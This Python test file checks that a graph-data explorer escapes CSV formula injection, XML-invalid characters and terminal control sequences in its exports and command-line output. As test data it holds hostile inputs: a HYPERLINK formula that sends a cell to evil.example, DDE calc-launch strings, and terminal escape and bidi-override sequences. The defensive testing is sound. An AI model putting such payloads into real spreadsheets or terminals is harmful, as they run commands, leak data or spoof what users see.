"""One escaping rule (explorer.text) and every place data text leaves the program through it:
CSV cells (exports and ``metrics --format csv``), GraphML and GEXF files, and the terminal."""

from __future__ import annotations

import copy
import csv
import html
import io
import json
import re
import zipfile

import networkx as nx
import pytest
from click.testing import CliRunner
from conftest import TINY, write_dataset
from hypothesis import given
from hypothesis import strategies as st

from explorer.cli import cli
from explorer.exports import export_view
from explorer.presenter import prepare_app_data
from explorer.text import CSV_FORMULA_PREFIXES, escape_csv_cell, escape_markup, escape_terminal, strip_xml_invalid
from explorer.viewstate import ViewState

# What must never reach a terminal raw: C0 and C1 controls, DEL, line separators, bidirectional overrides.
UNSAFE_TERMINAL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

# -- the functions ------------------------------------------------------------------------------


@given(st.text())
def test_escape_markup_leaves_no_markup_and_reads_back(text):
    out = escape_markup(text)
    assert not set("<>\"'") & set(out)
    assert re.fullmatch(r"([^&]|&(amp|lt|gt|#34|#39);)*", out, flags=re.S)
    assert html.unescape(out) == text


def test_escape_markup_quotes_are_numeric_references_plotly_reads():
    # Plotly.js decodes &amp; &lt; &gt; and numeric references, but shows &quot; as it is.
    assert escape_markup("""<a href="x" title='y'>""") == "&lt;a href=&#34;x&#34; title=&#39;y&#39;&gt;"


@given(st.text())
def test_escape_terminal_leaves_no_control_character_and_keeps_the_rest(text):
    out = escape_terminal(text)
    assert not UNSAFE_TERMINAL.search(out)
    if not UNSAFE_TERMINAL.search(text):
        assert out == text


def test_escape_terminal_shows_what_was_there():
    assert (
        escape_terminal("\x1b]0;owned\x07Ma\rX\x00\n\t\x9b\u202e") == "\\x1b]0;owned\\x07Ma\\rX\\x00\\n\\t\\x9b\\u202e"
    )
    assert escape_terminal("Сергей Лавров 王毅 ✓ é") == "Сергей Лавров 王毅 ✓ é"
    assert escape_terminal(None) == ""


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_escape_csv_cell_never_leaves_a_formula(value):
    out = escape_csv_cell(value)
    if isinstance(value, str):
        assert out == value or out == "'" + value
        assert not out.startswith(CSV_FORMULA_PREFIXES) or NUMBER.fullmatch(out)
    else:
        assert out is value  # numbers stay numbers


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3e4", "+3e4"),
        ("Ma Zhaoxu", "Ma Zhaoxu"),
        ("a=b", "a=b"),
        ("", ""),
        (-0.25, -0.25),
        (3, 3),
    ],
)
def test_escape_csv_cell_table(cell, expected):
    assert escape_csv_cell(cell) == expected


def test_strip_xml_invalid_keeps_what_xml_allows():
    assert strip_xml_invalid("a\x00b\x1bc\td\ne\rf\ufffeg\U0001f600") == "a\ufffdb\ufffdc\td\ne\rf\ufffdg\U0001f600"


# -- exports ------------------------------------------------------------------------------------

FORMULAS = {
    "CHN": '=HYPERLINK("https://evil.example/?"&A1,"China")',
    "RUS": "+7 Russia",
    "EGY": "-1+1",
    "ma-zhaoxu": "@SUM(1+1)*cmd|' /C calc'!A0",
}
CONTROL = {
    "CHN": "China\x00",
    "RUS": "Russia\x1b[31m\x07",
    "ma-zhaoxu": "Ma\x0bZhaoxu\x01",
}
STATE = ViewState(date_from="2020", date_to="2025")


def _hostile(folder, names: dict[str, str], title: str, source_title: str):
    tables = copy.deepcopy(TINY)
    for e in tables["entities"]:
        e["name"] = names.get(e["id"], e["name"])
    tables["events"][0]["title"] = title
    tables["sources"][0]["title"] = source_title
    return prepare_app_data(write_dataset(folder, tables))


@pytest.fixture(scope="module")
def formula_data(tmp_path_factory):
    return _hostile(tmp_path_factory.mktemp("formula") / "data", FORMULAS, "=cmd|' /C calc'!A0", "@evil()")


@pytest.fixture(scope="module")
def control_data(tmp_path_factory):
    return _hostile(
        tmp_path_factory.mktemp("control") / "data", CONTROL, "Talks\x00 in\x1f Moscow", "Readout\x1b]0;x\x07"
    )


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_writes_no_formula_cell(formula_data, tmp_path):
    zipped = export_view(formula_data, STATE, "csv", tmp_path / "t.zip")
    with zipfile.ZipFile(zipped) as zf:
        tables = {n: _cells(zf.read(n).decode()) for n in ("nodes.csv", "edges.csv", "metrics.csv", "sources.csv")}
    for name, rows in tables.items():
        assert rows, name
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(CSV_FORMULA_PREFIXES) or NUMBER.fullmatch(cell), (name, column, cell)
    nodes = {r["id"]: r for r in tables["nodes.csv"]}
    assert nodes["CHN"]["name"] == "'" + FORMULAS["CHN"]  # shown as text, not lost
    assert nodes["EGY"]["name"] == "'-1+1"
    assert any(r["title"] == "'=cmd|' /C calc'!A0" for r in tables["edges.csv"])
    assert any(r["title"] == "'@evil()" for r in tables["sources.csv"])
    # Numbers stay numbers: negative positions are not turned into text.
    assert any(float(r["x"]) < 0 for r in tables["nodes.csv"])
    assert all(NUMBER.fullmatch(r["x"]) for r in tables["nodes.csv"])


def test_csv_export_folder_is_escaped_too(formula_data, tmp_path):
    folder = export_view(formula_data, STATE, "csv", tmp_path / "tables")
    names = {r["id"]: r["name"] for r in _cells((folder / "metrics.csv").read_text(encoding="utf-8"))}
    assert names["RUS"] == "'+7 Russia"


def test_graphml_with_control_characters_reads_back(control_data, tmp_path):
    path = export_view(control_data, STATE, "graphml", tmp_path / "v.graphml")
    G = nx.read_graphml(path, force_multigraph=True)
    assert G.nodes["CHN"]["name"] == "China\ufffd"
    assert G.nodes["RUS"]["name"] == "Russia\ufffd[31m\ufffd"
    assert G.nodes["ma-zhaoxu"]["name"] == "Ma\ufffdZhaoxu\ufffd"
    assert any(d.get("title") == "Talks\ufffd in\ufffd Moscow" for _, _, d in G.edges(data=True))


def test_gexf_with_control_characters_reads_back(control_data, tmp_path):
    path = export_view(control_data, STATE, "gexf", tmp_path / "v.gexf")
    G = nx.read_gexf(path)
    assert G.nodes["ma-zhaoxu"]["label"] == "Ma\ufffdZhaoxu\ufffd"
    assert G.nodes["RUS"]["name"] == "Russia\ufffd[31m\ufffd"


# -- the command line ---------------------------------------------------------------------------

TERMINAL = {
    "CHN": "China\x1b]0;pwned\x07",
    "RUS": "Russia\x1b[2J",
    "EGY": "Egypt\x08\x08\x08\x08\x08EVIL",
    "ma-zhaoxu": "Ma Zhaoxu\u202eevil",
    "sergey-lavrov": "Sergey\nLavrov\x9b31m",
}


@pytest.fixture(scope="module")
def terminal_data(tmp_path_factory):
    tables = copy.deepcopy(TINY)
    for e in tables["entities"]:
        e["name"] = TERMINAL.get(e["id"], e["name"])
    tables["events"][0]["title"] = "Ma meets Lavrov\x1b[8m"
    tables["sources"][0]["title"] = "TASS\x1b]8;;http://evil\x07"
    tables["sources"][0]["publisher"] = "TASS\x07"
    return str(write_dataset(tmp_path_factory.mktemp("terminal") / "data", tables))


def _run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout + result.stderr


@pytest.mark.parametrize(
    "args, shows_names",
    [
        (("info",), False),
        (("validate",), False),
        (("metrics", "--level", "countries"), True),
        (("metrics",), True),
        (("path", "ma-zhaoxu", "sergey-lavrov"), True),
        (("path", "CHN", "RUS", "--level", "countries"), True),
        (("changes", "--from", "2023", "--to", "2023", "--vs-from", "2024", "--vs-to", "2024"), True),
        (("ego", "ma-zhaoxu", "--depth", "2"), True),
        (("series", "--nodes", "CHN,RUS", "--level", "countries", "--freq", "year"), False),
        (("info", "--json"), False),
        (("graph",), False),
        (("metrics", "--format", "json"), False),
    ],
    ids=lambda a: "-".join(a[:3]) if isinstance(a, tuple) else "",
)
def test_cli_prints_no_control_character_from_data(terminal_data, args, shows_names):
    code, out = _run(*args, "--data", terminal_data)
    assert code == 0, out
    printed = out.replace("\n", "")  # the program's own line breaks
    assert not UNSAFE_TERMINAL.search(printed), repr(UNSAFE_TERMINAL.search(printed))
    if shows_names:
        assert re.search(r"\\x1b|\\u202e", out), out  # shown, not dropped


def test_cli_json_output_stays_the_same_json(terminal_data):
    code, out = _run("info", "--json", "--data", terminal_data)
    assert code == 0 and json.loads(out)["entities"]
    code, out = _run("graph", "--data", terminal_data)
    names = {n["id"]: n["name"] for n in json.loads(out)["nodes"]}
    assert names["ma-zhaoxu"] == TERMINAL["ma-zhaoxu"]  # the data, exactly; escaped only in the text


def test_validate_problem_from_data_is_escaped(tmp_path):
    tables = copy.deepcopy(TINY)
    tables["entities"][0]["kind"] = "country\x1b]0;pwned\x07"
    folder = write_dataset(tmp_path / "bad", tables)
    code, out = _run("validate", "--data", str(folder))
    assert code == 1
    assert "\\x1b]0;pwned\\x07" in out and "\x1b" not in out


def test_metrics_csv_writes_no_formula_cell(tmp_path):
    tables = copy.deepcopy(TINY)
    for e in tables["entities"]:
        e["name"] = FORMULAS.get(e["id"], e["name"])
    folder = write_dataset(tmp_path / "data", tables)
    for args in (
        ("metrics", "--format", "csv"),
        ("metrics", "--format", "csv", "--level", "countries"),
        ("changes", "--from", "2023", "--to", "2023", "--vs-from", "2024", "--vs-to", "2024", "--format", "csv"),
        ("ego", "ma-zhaoxu", "--format", "csv"),
    ):
        code, out = _run(*args, "--data", str(folder))
        assert code == 0, out
        rows = _cells(out)
        assert rows, args
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(CSV_FORMULA_PREFIXES) or NUMBER.fullmatch(cell), (args, column, cell)
        names = {r["id"]: r["name"] for r in rows if "name" in r}
        assert names.get("CHN", "'").startswith("'")
